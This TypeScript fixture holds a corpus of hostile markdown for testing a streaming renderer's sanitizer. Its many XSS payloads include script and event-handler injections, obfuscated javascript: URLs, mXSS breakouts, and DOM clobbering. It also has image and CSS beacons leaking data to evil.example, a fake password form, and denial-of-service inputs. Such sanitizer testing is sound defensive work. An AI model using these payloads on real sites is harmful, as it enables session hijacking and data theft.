/**
 * Hostile markdown: payloads an attacker can get into a model's answer (prompt injection, poisoned documents)
 * or a compromised backend can send. Data only; `streaming-markdown/hostile-corpus.test.ts` renders each one-shot and streamed
 * (split at the listed deltas, or in small pieces) and checks after every delta that nothing executed
 * (payloads set `window.__pwned`), only allow-listed tags/attributes/URLs remain, and `visible` text shows.
 */
export interface HostileCase {
  category:
    | 'script' | 'event-handler' | 'url-scheme' | 'mxss' | 'dangerous-element' | 'css' | 'image-exfiltration'
    | 'link-policy' | 'clobbering' | 'literal-code' | 'split' | 'unicode' | 'dos';
  name: string;
  /** The markdown, or the deltas it arrives in. */
  input: string | readonly string[];
  /** Text that must remain visible. */
  visible?: string;
  /** Render with images allowed. */
  allowImages?: boolean;
  /** Selectors that must match nothing (beyond the generic allow-list checks). */
  absent?: readonly string[];
  /** Selectors that must match something. */
  present?: readonly string[];
}

const P = 'window.__pwned=1';

export const HOSTILE_CORPUS: readonly HostileCase[] = [
  // Script
  { category: 'script', name: 'script block', input: `<script>${P}</script>\n\nvisible text`, visible: 'visible text' },
  { category: 'script', name: 'script with data: src', input: `<SCRIPT SRC=data:text/javascript,${P}></SCRIPT>after`, visible: 'after' },
  { category: 'script', name: 'script tag split by newline', input: `<script\n>${P}</script>\nok` },
  { category: 'script', name: 'inline script in paragraph', input: `before <script>${P}</script> after`, visible: 'before' },
  { category: 'script', name: 'nested script tag trick', input: `<scr<script>ipt>${P}</script>tail`, visible: 'tail' },
  { category: 'script', name: 'script in template', input: `<template><script>${P}</script></template>shown`, visible: 'shown' },
  { category: 'script', name: 'module script', input: `<script type="module">${P}</script>` },
  { category: 'script', name: 'script inside div block', input: `<div>\n<script>${P}</script>\n</div>\n\nnext`, visible: 'next' },
  { category: 'script', name: 'script in list item', input: `- item <script>${P}</script>`, visible: 'item' },
  { category: 'script', name: 'script in table cell', input: `| a |\n|---|\n| <script>${P}</script>cell |`, visible: 'cell' },
  // Event handlers
  { category: 'event-handler', name: 'img onerror', input: `<img src=x onerror="${P}">text`, visible: 'text' },
  { category: 'event-handler', name: 'img onerror, images allowed', input: `<img src=x onerror="${P}">`, allowImages: true, absent: ['[onerror]'] },
  { category: 'event-handler', name: 'svg onload', input: `<svg onload=${P}>` },
  { category: 'event-handler', name: 'body onload', input: `<body onload=${P}>body text`, visible: 'body text' },
  { category: 'event-handler', name: 'details ontoggle', input: `<details open ontoggle=${P}>summary text</details>`, visible: 'summary text' },
  { category: 'event-handler', name: 'video source onerror', input: `<video><source onerror=${P}></video>` },
  { category: 'event-handler', name: 'audio onerror', input: `<audio src=x onerror=${P}>` },
  { category: 'event-handler', name: 'autofocus onfocus input', input: `<input autofocus onfocus=${P}>` },
  { category: 'event-handler', name: 'paragraph onmouseover', input: `<p onmouseover="${P}">hover me</p>`, visible: 'hover me' },
  { category: 'event-handler', name: 'link onclick', input: `<a href="https://example.com" onclick="${P}">click</a>`, visible: '<a href="https://example.com"', absent: ['a'] },
  { category: 'event-handler', name: 'marquee onstart', input: `<marquee onstart=${P}>scroll</marquee>`, visible: 'scroll' },
  { category: 'event-handler', name: 'slash-separated attributes', input: `<img/src=x/onerror=${P}>` },
  { category: 'event-handler', name: 'uppercase handler', input: `<IMG SRC=x ONERROR=${P}>` },
  { category: 'event-handler', name: 'entity-encoded handler body', input: `<img src=x onerror=&#119;indow.__pwned=1>` },
  { category: 'event-handler', name: 'unclosed img tag', input: `<img src=x:x onerror=${P}//` },
  { category: 'event-handler', name: 'select autofocus', input: `<select autofocus onfocus=${P}><option>opt</option></select>` },
  { category: 'event-handler', name: 'textarea autofocus', input: `<textarea autofocus onfocus=${P}>area</textarea>` },
  { category: 'event-handler', name: 'custom element onclick', input: `<x-el onclick=${P}>click me</x-el>`, visible: 'click me' },
  { category: 'event-handler', name: 'handler on task checkbox', input: `<input type="checkbox" onclick="${P}" checked>`, absent: ['[onclick]'] },
  { category: 'event-handler', name: 'onanimationstart via style', input: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${P}">anim</p>`, visible: 'anim' },
  // URL schemes
  { category: 'url-scheme', name: 'javascript: markdown link', input: `[a](javascript:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'uppercase JAVASCRIPT:', input: `[a](JAVASCRIPT:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'named entity colon', input: `[a](javascript&colon;${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'decimal entity j', input: `[a](&#106;avascript:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'hex entity j', input: `[a](&#x6A;avascript:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'entity tab inside scheme', input: `[a](java&#x09;script:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'entity newline before scheme', input: `[a](&#x0A;javascript:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'angle-bracket destination with space', input: `[a](< javascript:${P}>)`, visible: 'a' },
  { category: 'url-scheme', name: 'control character before scheme', input: `[a](\u0001javascript:${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'vbscript', input: '[a](vbscript:msgbox(1))', visible: 'a' },
  { category: 'url-scheme', name: 'data:text/html link', input: `[a](data:text/html,<script>${P}</script>)`, visible: 'a' },
  { category: 'url-scheme', name: 'data base64 link', input: '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)', visible: 'a' },
  { category: 'url-scheme', name: 'raw html javascript href', input: `<a href="javascript:${P}">raw</a>`, visible: 'raw' },
  { category: 'url-scheme', name: 'raw html entity-obfuscated href', input: `<a href="jav&#x61;script:${P}">ent</a>`, visible: 'ent' },
  { category: 'url-scheme', name: 'raw html tab in scheme', input: `<a href="jav\tascript:${P}">tab</a>`, visible: 'tab' },
  { category: 'url-scheme', name: 'raw html leading control entity', input: `<a href="&#14;javascript:${P}">ctl</a>`, visible: 'ctl' },
  { category: 'url-scheme', name: 'raw html leading space', input: `<a href=" javascript:${P}">sp</a>`, visible: 'sp' },
  { category: 'url-scheme', name: 'autolink with javascript scheme', input: `<javascript:${P}>` },
  { category: 'url-scheme', name: 'reference definition with javascript', input: `[a][x]\n\n[x]: javascript:${P}`, visible: 'a' },
  { category: 'url-scheme', name: 'file scheme', input: '[a](file:///etc/passwd)', visible: 'a' },
  { category: 'url-scheme', name: 'ftp scheme is not allowed', input: '[a](ftp://example.com/f)', visible: 'a', absent: ['a[href]'] },
  { category: 'url-scheme', name: 'javascript with comment newline', input: `[a](javascript://%0A${P})`, visible: 'a' },
  { category: 'url-scheme', name: 'entity parens', input: '[a](javascript:alert&lpar;1&rpar;)', visible: 'a' },
  { category: 'url-scheme', name: 'image with javascript src, images allowed', input: `![pic](javascript:${P})`, allowImages: true },
  { category: 'url-scheme', name: 'iframe javascript src', input: `<iframe src="javascript:${P}"></iframe>` },
  { category: 'url-scheme', name: 'object data javascript', input: `<object data="javascript:${P}"></object>` },
  // mXSS and namespace confusion
  { category: 'mxss', name: 'svg script', input: `<svg><script>${P}</script></svg>` },
  { category: 'mxss', name: 'math mglyph style', input: `<math><mtext><table><mglyph><style><img src=x onerror=${P}>` },
  { category: 'mxss', name: 'svg p style breakout', input: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">` },
  { category: 'mxss', name: 'math xlink href', input: `<math><mi xlink:href="data:x,<script>${P}</script>">m</mi></math>` },
  { category: 'mxss', name: 'form math mglyph', input: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>` },
  { category: 'mxss', name: 'svg foreignObject img', input: `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>` },
  { category: 'mxss', name: 'svg anchor xlink javascript', input: `<svg><a xlink:href="javascript:${P}"><text>svg link</text></a></svg>` },
  { category: 'mxss', name: 'math href', input: `<math href="javascript:${P}">math</math>` },
  { category: 'mxss', name: 'noscript title breakout', input: `<noscript><p title="</noscript><img src=x onerror=${P}>">` },
  { category: 'mxss', name: 'noembed title breakout', input: `<noembed><img title="</noembed><img src=x onerror=${P}>">` },
  { category: 'mxss', name: 'xmp title breakout', input: `<xmp><img title="</xmp><img src=x onerror=${P}>">` },
  { category: 'mxss', name: 'html comment', input: `<!--<img src=x onerror=${P}>-->after comment`, visible: 'after comment' },
  { category: 'mxss', name: 'cdata', input: `<![CDATA[<img src=x onerror=${P}>]]>` },
  { category: 'mxss', name: 'svg style img', input: `<svg><style><img src=x onerror=${P}></style></svg>` },
  { category: 'mxss', name: 'textarea title breakout', input: `<textarea><img title="</textarea><img src=x onerror=${P}>">` },
  // Dangerous elements
  { category: 'dangerous-element', name: 'iframe srcdoc', input: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { category: 'dangerous-element', name: 'embed', input: `<embed src="data:text/html,<script>${P}</script>">` },
  { category: 'dangerous-element', name: 'object', input: '<object data="https://evil.example/x.swf"></object>' },
  { category: 'dangerous-element', name: 'base href', input: '<base href="https://evil.example/">\n\n[rel](/x)', visible: 'rel', absent: ['base'] },
  { category: 'dangerous-element', name: 'meta refresh', input: `<meta http-equiv="refresh" content="0;url=javascript:${P}">` },
  { category: 'dangerous-element', name: 'link stylesheet', input: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { category: 'dangerous-element', name: 'form with text input', input: '<form action="https://evil.example"><input name="password" type="password"><button>Log in</button></form>', absent: ['form', 'button', 'input'] },
  { category: 'dangerous-element', name: 'text input', input: '<input type="text" value="x">', absent: ['input'] },
  { category: 'dangerous-element', name: 'image input', input: `<input type="image" src="x" onerror="${P}">`, absent: ['input'] },
  { category: 'dangerous-element', name: 'button formaction', input: `<button formaction="javascript:${P}">btn</button>`, visible: 'btn', absent: ['button'] },
  { category: 'dangerous-element', name: 'dialog open', input: '<dialog open>modal text</dialog>', visible: 'modal text', absent: ['dialog'] },
  { category: 'dangerous-element', name: 'frameset', input: `<frameset onload=${P}><frame src="javascript:${P}">` },
  { category: 'dangerous-element', name: 'portal and applet', input: '<portal src="https://evil.example"></portal><applet code="x"></applet>' },
  // CSS injection
  { category: 'css', name: 'style element', input: '<style>body{display:none}</style>\n\nstill here', visible: 'still here', absent: ['style'] },
  { category: 'css', name: 'style attribute overlay', input: '<p style="position:fixed;inset:0;background:red">overlay</p>', visible: 'overlay', absent: ['[style]'] },
  { category: 'css', name: 'background url exfiltration', input: '<div style="background:url(https://evil.example/leak)">bg</div>', visible: 'bg', absent: ['[style]'] },
  { category: 'css', name: 'style import', input: "<style>@import 'https://evil.example/x.css';</style>", absent: ['style'] },
  { category: 'css', name: 'class spoofing the cursor', input: '<span class="cursor" part="cursor">fake</span> text', visible: 'fake', absent: ['span:not(.cursor)', 'p[class]'] },
  { category: 'css', name: 'svg style', input: '<svg><style>*{color:red}</style></svg>', absent: ['style', 'svg'] },
  // Image exfiltration
  { category: 'image-exfiltration', name: 'markdown image off by default', input: '![secret](https://evil.example/leak?d=secret)', visible: 'secret', absent: ['img'] },
  { category: 'image-exfiltration', name: 'raw img off by default', input: '<img src="https://evil.example/leak">', absent: ['img'] },
  { category: 'image-exfiltration', name: 'reference image off', input: '![r][i]\n\n[i]: https://evil.example/leak', visible: 'r', absent: ['img'] },
  { category: 'image-exfiltration', name: 'srcset', input: '<img srcset="https://evil.example/leak 1x">', allowImages: true, absent: ['[srcset]'] },
  { category: 'image-exfiltration', name: 'picture source', input: '<picture><source srcset="https://evil.example/leak"></picture>', allowImages: true, absent: ['source', 'picture'] },
  { category: 'image-exfiltration', name: 'video poster', input: '<video poster="https://evil.example/leak"></video>', absent: ['video'] },
  { category: 'image-exfiltration', name: 'image allowed when opted in', input: '![cat](https://example.com/cat.png)', allowImages: true, present: ['img[src="https://example.com/cat.png"][alt="cat"]'] },
  { category: 'image-exfiltration', name: 'background attribute', input: '<table background="https://evil.example/leak"><tr><td>t</td></tr></table>', absent: ['[background]'] },
  // Link policy
  { category: 'link-policy', name: 'target and rel forced', input: '[x](https://example.com "title")', present: ['a[target="_blank"][rel="noopener noreferrer"]'] },
  { category: 'link-policy', name: 'raw html link is text', input: '<a href="https://example.com" target="_self" rel="opener">x</a>', visible: 'rel="opener">x</a>', absent: ['a'] },
  { category: 'link-policy', name: 'ping removed', input: '<a href="https://example.com" ping="https://evil.example">p</a>', absent: ['[ping]'] },
  { category: 'link-policy', name: 'download removed', input: '<a href="https://example.com/x" download>d</a>', absent: ['[download]'] },
  { category: 'link-policy', name: 'mailto kept', input: '[mail me](mailto:a@example.com)', present: ['a[href="mailto:a@example.com"]'] },
  { category: 'link-policy', name: 'relative and fragment kept', input: '[rel](/docs?q=1) [frag](#part)', present: ['a[href="/docs?q=1"]', 'a[href="#part"]'] },
  { category: 'link-policy', name: 'gfm autolink', input: 'see https://example.com/x now', present: ['a[href="https://example.com/x"][target="_blank"]'] },
  // DOM clobbering
  { category: 'clobbering', name: 'anchor id sets a global', input: '<a id="__pwned" href="#">c</a>' },
  { category: 'clobbering', name: 'img name clobbers document', input: '<img name="getElementById" src="x">', allowImages: true, absent: ['[name]'] },
  { category: 'clobbering', name: 'form name with input', input: '<form name="x"><input name="attributes"></form>', absent: ['[name]', 'form'] },
  { category: 'clobbering', name: 'paragraph id cookie', input: '<p id="cookie">c</p>', absent: ['[id]'] },
  { category: 'clobbering', name: 'anchor name body', input: '<a name="body">n</a>', absent: ['[name]'] },
  { category: 'clobbering', name: 'heading id', input: '<h1 id="__pwned">title</h1>', visible: 'title', absent: ['[id]'] },
  { category: 'clobbering', name: 'data and aria attributes', input: '<p data-x="1" aria-label="spoof">d</p>', absent: ['[data-x]', '[aria-label]'] },
  // Code stays literal
  { category: 'literal-code', name: 'fenced html', input: `\`\`\`html\n<script>${P}</script>\n\`\`\``, visible: `<script>${P}</script>`, absent: ['script'] },
  { category: 'literal-code', name: 'inline code img', input: `\`<img src=x onerror=${P}>\``, visible: `<img src=x onerror=${P}>`, absent: ['img'] },
  { category: 'literal-code', name: 'indented code', input: `    <iframe src="javascript:${P}">`, visible: '<iframe', absent: ['iframe'] },
  { category: 'literal-code', name: 'tilde fence', input: `~~~\n<svg onload=${P}>\n~~~`, visible: '<svg onload', absent: ['svg'] },
  { category: 'literal-code', name: 'double backtick span', input: '``a ` <b>bold?</b>``', visible: '<b>bold?</b>', absent: ['b'] },
  { category: 'literal-code', name: 'code with markdown link', input: '`[a](javascript:x)`', visible: '[a](javascript:x)', absent: ['a'] },
  // Payloads split across deltas
  { category: 'split', name: 'img tag split before handler', input: ['<img src=x on', `error=${P}>`] },
  { category: 'split', name: 'script tag split', input: ['<scr', `ipt>${P}</scr`, 'ipt>'] },
  { category: 'split', name: 'javascript link split in scheme', input: ['[a](java', `script:${P})`], visible: 'a' },
  { category: 'split', name: 'href split inside value', input: ['<a href="javascript:', `${P}">x</a>`] },
  { category: 'split', name: 'fence closes after script', input: ['```\n<script>', `${P}</script>`, '\n```'], absent: ['script'] },
  { category: 'split', name: 'svg script split', input: ['<svg><scr', `ipt>${P}</script></svg>`] },
  { category: 'split', name: 'iframe split in attribute', input: ['<iframe src', `="javascript:${P}">`] },
  { category: 'split', name: 'bold around late handler', input: ['**bold <img src=x ', `onerror=${P}>**`], visible: 'bold' },
  { category: 'split', name: 'entity split', input: ['[a](&#x6A', `;avascript:${P})`], visible: 'a' },
  { category: 'split', name: 'comment opened then closed', input: ['<!-- <img src=x ', `onerror=${P}> -->`] },
  // Unicode tricks
  { category: 'unicode', name: 'zero-width space in scheme', input: `[a](java\u200Bscript:${P})`, visible: 'a' },
  { category: 'unicode', name: 'fullwidth scheme', input: `[a](ｊａｖａｓｃｒｉｐｔ:${P})`, visible: 'a' },
  { category: 'unicode', name: 'right-to-left override text', input: 'file\u202Egnp.exe', visible: 'file' },
  { category: 'unicode', name: 'NUL in tag name', input: `<scr\u0000ipt>${P}</script>` },
  { category: 'unicode', name: 'NUL in scheme', input: `[a](java\u0000script:${P})`, visible: 'a' },
  { category: 'unicode', name: 'lone surrogate', input: 'broken \uD83D text', visible: 'text' },
  { category: 'unicode', name: 'non-breaking space before scheme', input: `<a href="\u00A0javascript:${P}">nb</a>`, visible: 'nb' },
  // Denial of service (must finish quickly, see the test's time bound)
  { category: 'dos', name: 'thousands of nested quotes', input: '>'.repeat(5000) + ' deep' },
  { category: 'dos', name: 'thousands of nested lists', input: Array.from({ length: 3000 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n') },
  { category: 'dos', name: 'huge backtick run', input: '`'.repeat(100_000) + 'x' },
  { category: 'dos', name: 'megabyte line', input: 'a'.repeat(1_000_000) },
  { category: 'dos', name: 'many open brackets', input: '['.repeat(20_000) + 'x' },
  { category: 'dos', name: 'many emphasis openers', input: '*a'.repeat(20_000) },
  { category: 'dos', name: 'many less-than signs', input: '<'.repeat(50_000) },
  { category: 'dos', name: 'link destination parens', input: '[a](' + '('.repeat(20_000) },
  { category: 'dos', name: 'many table columns', input: '|' + 'a|'.repeat(5000) + '\n|' + '-|'.repeat(5000) },
  { category: 'dos', name: 'deep html nesting', input: '<div>'.repeat(5000) + 'x' },
];
